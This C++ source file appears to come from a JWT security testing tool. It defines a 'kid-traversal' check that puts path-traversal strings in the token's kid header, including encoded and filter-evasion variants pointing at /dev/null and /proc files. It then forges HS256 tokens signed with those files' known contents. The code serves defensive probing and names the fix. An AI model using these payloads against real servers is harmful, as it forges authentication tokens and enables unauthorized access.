#include <array>
#include <utility>

#include "jwtkeep/probe/compact.hpp"
#include "jwtkeep/probe/forgeries/rows.hpp"

namespace jwtkeep::probe {
namespace {

constexpr std::array<std::string_view, 2> kKidTraversalReferences{"RFC 8725 section 3.10", "RFC 7515 section 4.1.4"};

struct Place {
  std::string_view kid;
  std::string_view content;  ///< what a reader of that file gets
  std::string_view what;
};

/// Files whose content is the same on every machine, by the ways that filters have let through.
constexpr std::array<Place, 9> kPlaces{{
    {"/dev/null", "", "an empty file"},
    {"../../../../../../../../dev/null", "", "an empty file"},
    {"....//....//....//....//....//....//dev/null", "", "an empty file"},
    {"..%2f..%2f..%2f..%2f..%2f..%2fdev%2fnull", "", "an empty file"},
    {"..\\..\\..\\..\\..\\..\\NUL", "", "an empty file"},
    {"file:///dev/null", "", "an empty file"},
    {"/proc/sys/kernel/randomize_va_space", "2\n", "\"2\" and a newline"},
    {"../../../../../../../../proc/sys/kernel/randomize_va_space", "2\n", "\"2\" and a newline"},
    {"../../../../../../../../proc/sys/kernel/randomize_va_space", "2", "\"2\""},
}};

Attempts make_kid_traversal(const Material& material) {
  Attempts attempts;
  for (const auto& place : kPlaces) {
    const auto header = header_with(material.good, {{"alg", "HS256"}, {"kid", place.kid}});
    attempts.list.push_back({"kid " + base::quote_json(place.kid) + ", signed with " + std::string(place.what),
                             hmac_token(material.good, jose::Alg::HS256, header, base::as_bytes(place.content))});
  }
  return attempts;
}

}  // namespace

const Forgery kKidTraversal{
    .id = "kid-traversal",
    .title = "A path in kid",
    .severity = Severity::critical,
    .judging = Judging::answer,
    .cwe = "CWE-22",
    .references = kKidTraversalReferences,
    .means = "anybody chooses a file of the server's with known content as the key, and makes tokens with any claims",
    .mend = "look the kid up in a list of the keys that are known; never make a path, a URL or a query of it",
    .make = make_kid_traversal,
};

}  // namespace jwtkeep::probe
